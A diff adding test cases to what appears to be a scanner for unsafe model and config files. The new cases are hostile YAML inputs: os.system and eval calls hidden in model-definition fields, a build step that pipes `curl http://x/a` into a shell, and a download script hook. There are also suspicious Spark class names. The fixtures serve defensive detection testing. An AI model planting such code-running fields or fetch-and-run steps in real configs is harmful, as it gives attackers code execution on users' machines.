@@ -58,6 +58,15 @@ def _yaml() -> Iterator[Case]:
     for tag in PYTHON_TAGS:
         yield f"tag {tag}", "config.yaml", f"a: 1\nb: !!python/{tag} [id]\n".encode(), "yaml-python-tag"
     yield "verbatim tag", "c.yml", b"a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n", "yaml-python-tag"
+    network = b"nc: 1\nbackbone:\n  - [-1, 1, %s, [%s]]\nhead: []\n"
+    yield "yolo module", "m.yaml", network % (b"__import__('os').system('id')", b"64"), "yaml-code"
+    yield "yolo argument", "m.yaml", network % (b"Conv", b"eval('1')"), "yaml-code"
+    yield "yolo activation", "m.yaml", b"nc: 80\nactivation: __import__('os').system('id')\n", "yaml-code"
+    yield "cog step", "cog.yaml", b"build:\n  run:\n    - curl http://x/a | sh\n", "yaml-code"
+    yield "yolo download", "d.yaml", b"names: [a]\ndownload: |\n  import os\n  os.system('id')\n", "yaml-code"
+    yield "yolo shell", "d.yaml", b"names: [a]\ndownload: bash get.sh\n", "yaml-download-script"
+    binary = b"a: 1\n# " + b"x" * 9000 + b"\n# \x80\x02\x00"
+    yield "yaml that is no text to its end", "c.yaml", binary, "yaml-not-understood"
     handle = b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n"
     yield "tag by a handle", "c.yaml", handle, "yaml-python-tag"
     for name in WEAPONS:
@@ -456,6 +465,9 @@ def _devices_and_java() -> Iterator[Case]:
     plain, gadget = b"java.util.HashMap", b"org.apache.commons.collections.functors.InvokerTransformer"
     yield "java object", "m.ser", stream % (len(plain), plain) + bytes(9), "java-serialised-object"
     yield "java gadget", "m.bin", stream % (len(gadget), gadget) + bytes(9), "java-serialised-object java-gadget"
+    for name in ("evil.Class", "pyspark.mlx.A", "org.apache.spark.mllib", "my_pipeline.Stage"):
+        said = b'{"class": "%s", "sparkVersion": "3.5.0", "uid": "x", "paramMap": {}}' % name.encode()
+        yield f"spark {name}", "m/metadata/part-00000", said, "java-spark-class"
     for key in ("Main-Class", "Premain-Class", "Agent-Class"):
         yield f"java {key}", "META-INF/MANIFEST.MF", f"Manifest-Version: 1.0\n{key}: a.B\n".encode(), "java-start-class"
     for name, (path, data, rule) in HOSTILE.items():
@@ -508,6 +520,7 @@ def _stores_and_vocabularies() -> Iterator[Case]:
     words = b.fasttext(["a", "b"])
     yield "fasttext cut", "m.bin", words[:-1], "fasttext-broken"
     yield "fasttext continued", "m.bin", words + b"x", "fasttext-broken"
+    yield "word2vec cut", "m.bin", b"2 1\nthe \0\0\x80\x3fof \0\0\x80", "word2vec-broken"
     yield "fasttext quantised", "m.bin", b.fasttext(["a"], quantised=True), "fasttext-quantised"
     yield (
         "kenlm",
